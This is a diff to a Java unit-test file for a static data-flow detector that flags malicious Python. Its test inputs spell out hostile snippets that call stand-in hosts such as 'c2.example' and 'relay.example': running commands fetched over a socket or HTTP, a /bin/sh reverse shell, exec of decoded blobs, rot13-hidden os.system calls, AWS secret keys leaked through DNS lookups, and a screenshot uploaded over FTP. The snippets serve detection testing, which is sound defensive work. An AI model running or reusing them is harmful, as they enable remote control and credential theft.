@@ -21,7 +21,11 @@ class DataFlowTest {
     ContentPattern pattern = pattern(flow);
     DataFlow dataFlow = DataFlow.of(PythonSource.parse(python).code(), python);
     return dataFlow
-        .reaches(patterns(pattern.sources()), patterns(pattern.sinks()), pattern.reach().get())
+        .reaches(
+            patterns(pattern.sources()),
+            patterns(pattern.channels()),
+            patterns(pattern.sinks()),
+            pattern.reach().get())
         .map(DataFlow.Statement::line);
   }
 
@@ -142,6 +146,37 @@ class DataFlowTest {
     }
 
     @Test
+    void whatASocketReceivesIsDataItsPortIsNot() {
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import socket, subprocess",
+                      "s = socket.create_connection(('c2.example', 443))",
+                      "cmd = s.recv(4096).decode()",
+                      "subprocess.run(cmd, shell=True)")))
+          .contains(4);
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import socket, subprocess",
+                      "s = socket.socket()",
+                      "s.bind(('', 0))",
+                      "port = s.getsockname()[1]",
+                      "subprocess.Popen(f'etcd --listen-client-urls http://localhost:{port}')")))
+          .isEmpty();
+      assertThat(
+              reached(
+                  "shell-on-connection",
+                  lines(
+                      "import socket, subprocess",
+                      "s = socket.create_connection(('relay.example', 4444))",
+                      "subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())")))
+          .contains(3);
+    }
+
+    @Test
     void aDownloadHandedToAProgramAsAFileIsNotTheProgram() {
       assertThat(
               reached(
@@ -152,6 +187,22 @@ class DataFlowTest {
                       "urllib.request.urlretrieve('https://x.example/d.tgz', archive)",
                       "subprocess.run(['tar', 'xzf', archive])")))
           .isEmpty();
+    }
+
+    @Test
+    void aHelperIsASinkOnlyThroughTheParameterThatReachesItsCommand() {
+      String helper =
+          lines(
+              "import subprocess, httpx",
+              "def convert(payload, rate):",
+              "    cmd = ['ffmpeg', '-ar', str(rate), '-i', 'pipe:0']",
+              "    p = subprocess.Popen(cmd, stdin=subprocess.PIPE)",
+              "    return p.communicate(payload)",
+              "def run(program):",
+              "    subprocess.run([program])",
+              "audio = httpx.get(URL).content");
+      assertThat(reached("runs-fetched", helper + "convert(audio, 16000)\n")).isEmpty();
+      assertThat(reached("runs-fetched", helper + "run(program=audio)\n")).contains(9);
     }
 
     @Test
@@ -221,6 +272,109 @@ class DataFlowTest {
                       "payload = {'v': 1}",
                       "requests.post('https://api.example/v1', json=payload)")))
           .isEmpty();
+    }
+  }
+
+  @Nested
+  class SpellingsTheInterpreterResolves {
+
+    @Test
+    void importedAliasesAreTheirFullNames() {
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import subprocess as sp",
+                      "from urllib.request import urlopen as fetch",
+                      "cmd = fetch('https://c2.example/c').read().decode()",
+                      "sp.Popen(cmd, shell=True)")))
+          .contains(4);
+    }
+
+    @Test
+    void aLookupByALiteralNameIsTheName() {
+      assertThat(
+              reached(
+                  "exec-decoded-flow",
+                  lines(
+                      "import base64",
+                      "run = __builtins__['exec'] if isinstance(__builtins__, dict) else exec",
+                      "run(base64.a85decode(B))")))
+          .contains(3);
+      assertThat(
+              reached(
+                  "runs-fetched",
+                  lines(
+                      "import requests",
+                      "c = requests.get('https://c2.example').text",
+                      "getattr(__import__('os'), 'system')(c)")))
+          .contains(3);
+    }
+
+    @Test
+    void anFStringCarriesWhatItInterpolates() {
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import socket, boto3",
+                      "key = boto3.Session().get_credentials().secret_key",
+                      "socket.gethostbyname(f'{key}.dns.example')")))
+          .contains(3);
+    }
+
+    @Test
+    void aDirectoryOnTheImportPathCountsOnlyIfADownloadWasWrittenIntoIt() {
+      String written =
+          lines(
+              "import os, sys, urllib.request",
+              "d = '/tmp/.c'",
+              "with open(os.path.join(d, 'm.py'), 'wb') as f:",
+              "    f.write(urllib.request.urlopen(URL).read())",
+              "sys.path.insert(0, d)");
+      assertThat(reached("imports-fetched", written)).contains(5);
+      String received =
+          lines(
+              "import sys",
+              "def sync(comm):",
+              "    return comm.recv(None, 0)",
+              "options = sync(comm)",
+              "sys.path.insert(0, options['path'])");
+      assertThat(reached("imports-fetched", received)).isEmpty();
+    }
+
+    @Test
+    void aFunctionFoundByADecodedNameIsCalledWithIt() {
+      assertThat(
+              reached(
+                  "calls-decoded-name",
+                  lines(
+                      "import codecs, importlib",
+                      "m = importlib.import_module(codecs.encode('bf', 'rot13'))",
+                      "f = getattr(m, codecs.encode('flfgrz', 'rot13'))",
+                      "f('id')")))
+          .contains(4);
+      assertThat(
+              reached(
+                  "calls-decoded-name",
+                  lines(
+                      "import zlib", "raw = zlib.decompress(blob)", "text = raw.decode('utf-8')")))
+          .isEmpty(); // a method of a decoded value is not a function found by a decoded name
+    }
+
+    @Test
+    void whatATaintedObjectWritesIntoCarriesIt() {
+      assertThat(
+              reached(
+                  "sends-secrets",
+                  lines(
+                      "import ftplib, io",
+                      "from PIL import ImageGrab as G",
+                      "shot = G.grab()",
+                      "buf = io.BytesIO()",
+                      "shot.save(buf, 'PNG')",
+                      "ftplib.FTP('files.example').storbinary('STOR s.png', buf)")))
+          .contains(6);
     }
   }
 
